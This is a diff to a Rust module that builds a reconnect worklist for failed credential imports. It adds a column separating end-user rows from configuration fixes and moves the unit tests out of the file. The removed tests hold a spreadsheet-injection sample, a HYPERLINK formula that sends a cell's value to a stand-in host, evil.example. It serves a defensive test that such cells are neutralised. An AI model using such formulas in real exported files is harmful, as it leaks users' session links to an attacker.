@@ -2,8 +2,8 @@
 //! service, built from the same per-record status as `status` ([`crate::status::collect`]).
 //!
 //! It lists records imported and later `refresh_failed`, `revoked` or `deleted`, and records
-//! that failed permanently: their mapping can never succeed (e.g. an OAuth token for a
-//! platform's own OAuth app) or the target rejected them. `pre_existing` records are left out
+//! that failed permanently: their mapping can never succeed (e.g. an API key for an OAuth
+//! connector) or the target rejected them. `pre_existing` records are left out
 //! (the end user is already connected), and so are failures a re-run of the import may fix
 //! (transient, rate limited, not attempted, conflicts). The import's report tells the kinds
 //! apart; without it, records the journal never imported are mapped again (no writes) and
@@ -20,6 +20,16 @@
 //!
 //! Every input is read ([`worklist`]) before the output is opened ([`write_worklist`]). CSV
 //! cells that a spreadsheet would run as a formula are prefixed with `'` ([`csv_cell`]).
+//!
+//! Each row has a `kind`: `end_user` (the end user must connect again) or `config_fix` (the
+//! operator can fix it: the failure names a setting, e.g. a missing `service_environment`, a
+//! service with no connector mapping, a solution step Tray refused). `config_fix` rows carry
+//! the setting to change in `setting` and never get a link: a link cannot fix the
+//! configuration, and a one-link-per-owner session minted with them would not cover their
+//! service ([`config_setting`]).
+//!
+//! A little over 600 lines: building, minting and writing share the row type and the memo
+//! rule; the pure classification is in `kind`, the unit tests in `tests`.
 
 use std::borrow::Cow;
 use std::collections::{BTreeMap, BTreeSet, HashMap};
@@ -36,8 +46,17 @@ use crate::maintenance::{CallContext, MaintenanceOptions};
 use crate::state::StateStore;
 use crate::status::{EventView, Health, collect};
 
+mod kind;
+pub use kind::config_setting;
+use kind::field_of;
+
 /// The memo namespace of minted links (value: when it was minted, RFC 3339).
 const MINTED: &str = "reconnect_link_minted";
+
+/// A row the end user acts on (connect again): it may get a link.
+pub const END_USER: &str = "end_user";
+/// A row the operator acts on (change a setting, re-run the import): never a link.
+pub const CONFIG_FIX: &str = "config_fix";
 
 /// How `reconnect` runs.
 #[derive(Debug, Clone, Default)]
@@ -62,7 +81,11 @@ pub struct WorkRow {
     pub service: String,
     /// `refresh_failed`, `revoked`, `deleted` or `not_imported`.
     pub status: String,
+    /// [`END_USER`] or [`CONFIG_FIX`].
+    pub kind: &'static str,
     pub reason: String,
+    /// For a `config_fix` row: the setting(s) to change, as the failure names them.
+    pub setting: Option<String>,
     pub record_ids: Vec<String>,
     /// What a link needs (Tray `serviceId`/`serviceEnvironmentId`, Apideck
     /// `unified_api`/`service_id`).
@@ -81,6 +104,7 @@ impl std::fmt::Debug for WorkRow {
             .field("owner_id", &self.owner_id)
             .field("service", &self.service)
             .field("status", &self.status)
+            .field("kind", &self.kind)
             .field("record_ids", &self.record_ids)
             .field("vendor", &self.vendor)
             .field("has_link", &self.link.is_some())
@@ -153,6 +177,8 @@ pub struct ReconnectSummary {
     /// Records the journal never imported whose failure kind is unknown (no import report)
     /// or is one a re-run may fix: left out.
     pub left_out: u64,
+    /// Rows of kind `config_fix` (included in `rows`).
+    pub config_fixes: u64,
     /// Imported records whose read-back failed: their state is unknown, so they are not listed.
     pub unreadable: u64,
 }
@@ -160,11 +186,13 @@ pub struct ReconnectSummary {
 impl ReconnectSummary {
     pub fn human(&self) -> String {
         format!(
-            "reconnect: {} rows ({} records); links minted {}, minted earlier {}, failed {}; \
+            "reconnect: {} rows ({} records), {} of them configuration fixes (kind config_fix: no link); \
+             links minted {}, minted earlier {}, failed {}; \
              {} records left out (pre-existing, or a re-run of the import may fix them); \
              {} imported records could not be read back (run status to see why)",
             self.rows,
             self.records,
+            self.config_fixes,
             self.links_minted,
             self.links_already_minted,
             self.link_errors,
@@ -183,7 +211,19 @@ fn permanent_failure(kind: ErrorKind) -> Option<&'static str> {
     }
 }
 
-fn read_import_report(path: &Path) -> anyhow::Result<HashMap<String, ErrorKind>> {
+/// A record's failure as the worklist shows it: the reason (with the field it failed on),
+/// and the setting when it is a configuration fix. Pure.
+fn failure_row(generic: &str, message: &str) -> (String, Option<String>) {
+    match config_setting(message) {
+        Some(setting) => (message.to_owned(), Some(setting)),
+        None => match field_of(message).0 {
+            Some(field) => (format!("{generic} ({field})"), None),
+            None => (generic.to_owned(), None),
+        },
+    }
+}
+
+fn read_import_report(path: &Path) -> anyhow::Result<HashMap<String, ReportedError>> {
     let text = std::fs::read_to_string(path)
         .map_err(|e| anyhow::anyhow!("cannot read import report {}: {e}", path.display()))?;
     let mut kinds = HashMap::new();
@@ -193,7 +233,13 @@ fn read_import_report(path: &Path) -> anyhow::Result<HashMap<String, ErrorKind>>
             continue;
         };
         if let (Some(id), Some(error)) = (parsed.id, parsed.error) {
-            kinds.insert(id, error.kind);
+            kinds.insert(
+                id,
+                ReportedError {
+                    kind: error.kind,
+                    message: error.message,
+                },
+            );
         }
     }
     Ok(kinds)
@@ -208,11 +254,19 @@ fn read_input(path: &Path) -> anyhow::Result<BTreeMap<String, CredentialRecord>>
         .collect())
 }
 
+/// A failure as the import's report gives it.
+struct ReportedError {
+    kind: ErrorKind,
+    message: String,
+}
+
 /// One record on the worklist, before grouping.
 struct Listed {
     record: String,
     status: &'static str,
     reason: String,
+    /// `Some`: a configuration fix, with the setting to change.
+    setting: Option<String>,
     target: Option<TargetRef>,
 }
 
@@ -241,6 +295,7 @@ pub async fn worklist(
                 record: line.record_id.clone(),
                 status: health.as_str(),
                 reason: health.reason().to_owned(),
+                setting: None,
                 target: line.target.clone(),
             });
         }
@@ -258,24 +313,23 @@ pub async fn worklist(
         importer.discover(&keys).await?;
     }
     for record in never {
-        let reason = match &reported {
-            Some(kinds) => kinds
-                .get(&record.id)
-                .copied()
-                .and_then(permanent_failure)
-                .map(str::to_owned),
-            None => importer.map(record).err().map(|e| {
-                format!(
-                    "the credentials cannot be imported into this platform ({})",
-                    e.field
+        let failure = match &reported {
+            Some(kinds) => kinds.get(&record.id).and_then(|error| {
+                permanent_failure(error.kind).map(|generic| failure_row(generic, &error.message))
+            }),
+            None => importer.map(record).err().map(|error| {
+                failure_row(
+                    permanent_failure(ErrorKind::Mapping).unwrap_or_default(),
+                    &error.to_string(),
                 )
             }),
         };
-        match reason {
-            Some(reason) => listed.push(Listed {
+        match failure {
+            Some((reason, setting)) => listed.push(Listed {
                 record: record.id.clone(),
                 status: Health::NotImported.as_str(),
                 reason,
+                setting,
                 target: None,
             }),
             None => summary.left_out += 1,
@@ -292,6 +346,7 @@ pub async fn worklist(
     let rows = group(&listed, &records, importer.as_ref()).await;
     summary.rows = rows.len() as u64;
     summary.records = rows.iter().map(|r| r.record_ids.len() as u64).sum();
+    summary.config_fixes = rows.iter().filter(|r| r.kind == CONFIG_FIX).count() as u64;
     Ok(Worklist { rows, summary })
 }
 
@@ -341,13 +396,13 @@ fn distinct_keys(records: &[&CredentialRecord], provider: &str) -> Vec<Discovery
     keys
 }
 
-/// Rows per (owner, service), in owner order; owner details from the input record only.
+/// Rows per (owner, service, kind), in owner order; owner details from the input record only.
 async fn group(
     listed: &[Listed],
     records: &BTreeMap<String, CredentialRecord>,
     importer: &dyn AuthImporter,
 ) -> Vec<WorkRow> {
-    let mut rows: BTreeMap<(String, String), WorkRow> = BTreeMap::new();
+    let mut rows: BTreeMap<(String, String, &'static str), WorkRow> = BTreeMap::new();
     for item in listed {
         // A journalled record missing from this input has no owner to write to: skip it.
         let Some(record) = records.get(&item.record) else {
@@ -357,14 +412,21 @@ async fn group(
             Some(links) => links.link_ids(record, item.target.as_ref()).await,
             None => item.target.clone().map(|t| t.0).unwrap_or_default(),
         };
-        let key = (record.owner.id.clone(), record.service.clone());
+        let kind = if item.setting.is_some() {
+            CONFIG_FIX
+        } else {
+            END_USER
+        };
+        let key = (record.owner.id.clone(), record.service.clone(), kind);
         let row = rows.entry(key).or_insert_with(|| WorkRow {
             owner_id: record.owner.id.clone(),
             owner_name: record.owner.name.clone(),
             owner_email: record.owner.email.clone(),
             service: record.service.clone(),
             status: item.status.to_owned(),
+            kind,
             reason: item.reason.clone(),
+            setting: item.setting.clone(),
             record_ids: Vec::new(),
             vendor: vendor.clone(),
             link: None,
@@ -415,6 +477,9 @@ async fn mint_links(
     // an owner's rows are adjacent and the file keeps the row order).
     let mut groups: Vec<Vec<usize>> = Vec::new();
     for (index, row) in rows.iter().enumerate() {
+        if row.kind != END_USER {
+            continue;
+        }
         let joins_last = groups.last().is_some_and(|last| {
             let first = &rows[last[0]];
             first.owner_id == row.owner_id && (one_link_per_owner || first.service == row.service)
@@ -423,6 +488,10 @@ async fn mint_links(
             Some(last) if joins_last => last.push(index),
             _ => groups.push(vec![index]),
         }
+    }
+    // Configuration fixes get no link: written first, as they are.
+    for row in rows.iter().filter(|row| row.kind != END_USER) {
+        writer.row(row)?;
     }
     for indexes in groups {
         let memo_key = mint_key(
@@ -477,7 +546,7 @@ async fn mint_links(
     Ok(())
 }
 
-const CSV_HEADER: [&str; 12] = [
+const CSV_HEADER: [&str; 14] = [
     "owner_id",
     "owner_name",
     "owner_email",
@@ -490,6 +559,8 @@ const CSV_HEADER: [&str; 12] = [
     "link_expires_at",
     "link_note",
     "link_minted_at",
+    "kind",
+    "setting",
 ];
 
 /// A CSV cell a spreadsheet will not run as a formula: a cell starting with `=`, `+`, `-`,
@@ -544,6 +615,8 @@ impl<'a> RowWriter<'a> {
                 opt(&row.link_expires_at),
                 opt(&row.link_note),
                 opt(&row.link_minted_at),
+                row.kind.to_owned(),
+                opt(&row.setting),
             ]
             .map(|cell| csv_cell(&cell).into_owned());
             csv_line(&cells)?
@@ -577,143 +650,4 @@ pub fn write_rows(rows: &[WorkRow], csv: bool, out: &mut dyn Write) -> anyhow::R
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn row() -> WorkRow {
-        let mut vendor = Map::new();
-        vendor.insert("unified_api".into(), json!("crm"));
-        vendor.insert("service_id".into(), json!("pipedrive"));
-        WorkRow {
-            owner_id: "u1".into(),
-            owner_name: Some("Ada, Countess".into()),
-            owner_email: Some("ada@example.com".into()),
-            service: "pipedrive".into(),
-            status: "refresh_failed".into(),
-            reason: Health::RefreshFailed.reason().into(),
-            record_ids: vec!["r1".into(), "r2".into()],
-            vendor,
-            link: None,
-            link_expires_at: None,
-            link_note: None,
-            link_minted_at: None,
-        }
-    }
-
-    #[test]
-    fn csv_rows_quote_commas_and_flatten_ids() {
-        let mut out = Vec::new();
-        write_rows(&[row()], true, &mut out).unwrap();
-        let text = String::from_utf8(out).unwrap();
-        let mut lines = text.lines();
-        assert_eq!(lines.next().unwrap(), CSV_HEADER.join(","));
-        assert_eq!(
-            lines.next().unwrap(),
-            "u1,\"Ada, Countess\",ada@example.com,pipedrive,refresh_failed,\
-             the imported token could not be refreshed,r1 r2,\
-             service_id=pipedrive;unified_api=crm,,,,"
-        );
-    }
-
-    #[test]
-    fn cells_a_spreadsheet_would_run_are_prefixed_with_a_quote() {
-        let cases: &[(&str, &str)] = &[
-            ("Ada", "Ada"),
-            ("", ""),
-            (
-                "=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")",
-                "'=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")",
-            ),
-            ("+1 555", "'+1 555"),
-            ("-2+3", "'-2+3"),
-            ("@SUM(A1)", "'@SUM(A1)"),
-            ("\tx", "'\tx"),
-            ("\rx", "'\rx"),
-            ("a=b", "a=b"),
-            (" =1", " =1"),
-            (
-                "https://vault.example/session/1",
-                "https://vault.example/session/1",
-            ),
-        ];
-        for (cell, expect) in cases {
-            assert_eq!(csv_cell(cell), *expect, "{cell:?}");
-        }
-    }
-
-    #[test]
-    fn a_formula_owner_name_is_inert_in_the_csv_next_to_a_link() {
-        let mut row = row();
-        row.owner_name = Some("=HYPERLINK(\"http://evil.example/?x=\"&I2,\"Click\")".into());
-        row.owner_id = "-u1".into();
-        row.link = Some("https://vault.example/session/CANARY".into());
-        let mut out = Vec::new();
-        write_rows(&[row], true, &mut out).unwrap();
-        let text = String::from_utf8(out).unwrap();
-        let line = text.lines().nth(1).unwrap();
-        assert!(
-            line.starts_with(
-                "'-u1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&I2,\"\"Click\"\")\","
-            ),
-            "{line}"
-        );
-    }
-
-    #[test]
-    fn debug_of_a_row_never_shows_its_link() {
-        let mut row = row();
-        row.link = Some("https://vault.example/session/CANARY-link".into());
-        let text = format!("{row:?}");
-        assert!(!text.contains("CANARY-link"), "{text}");
-        assert!(text.contains("has_link: true"), "{text}");
-    }
-
-    fn rows_of(owner: &str, apis: &[(&str, &str)]) -> Vec<WorkRow> {
-        apis.iter()
-            .map(|(api, service)| {
-                let mut row = row();
-                row.owner_id = owner.into();
-                row.service = (*service).into();
-                row.vendor = Map::from_iter([
-                    ("unified_api".to_owned(), json!(api)),
-                    ("service_id".to_owned(), json!(service)),
-                ]);
-                row
-            })
-            .collect()
-    }
-
-    #[test]
-    fn a_link_for_all_of_an_owners_services_is_keyed_by_what_it_covers() {
-        let key = |rows: &[WorkRow], per_owner: bool| {
-            mint_key("apideck", per_owner, &rows.iter().collect::<Vec<_>>())
-        };
-        let crm = rows_of("u1", &[("crm", "hubspot")]);
-        let crm_and_accounting = rows_of("u1", &[("crm", "hubspot"), ("accounting", "xero")]);
-        let reordered = rows_of("u1", &[("accounting", "xero"), ("crm", "hubspot")]);
-        assert_ne!(key(&crm, true), key(&crm_and_accounting, true));
-        assert_eq!(key(&crm_and_accounting, true), key(&reordered, true));
-        assert_ne!(
-            key(&crm, true),
-            key(&rows_of("u2", &[("crm", "hubspot")]), true)
-        );
-        // One link per service: owner and service, as before.
-        assert_eq!(key(&crm, false), "apideck\u{1f}u1\u{1f}hubspot");
-    }
-
-    #[test]
-    fn only_mapping_and_rejected_failures_are_permanent() {
-        assert!(permanent_failure(ErrorKind::Mapping).is_some());
-        assert!(permanent_failure(ErrorKind::Rejected).is_some());
-        for kind in [
-            ErrorKind::PreExisting,
-            ErrorKind::Transient,
-            ErrorKind::RateLimited,
-            ErrorKind::NotAttempted,
-            ErrorKind::Conflict,
-            ErrorKind::OutcomeUnknown,
-        ] {
-            assert!(permanent_failure(kind).is_none(), "{kind:?}");
-        }
-    }
-}
+mod tests;
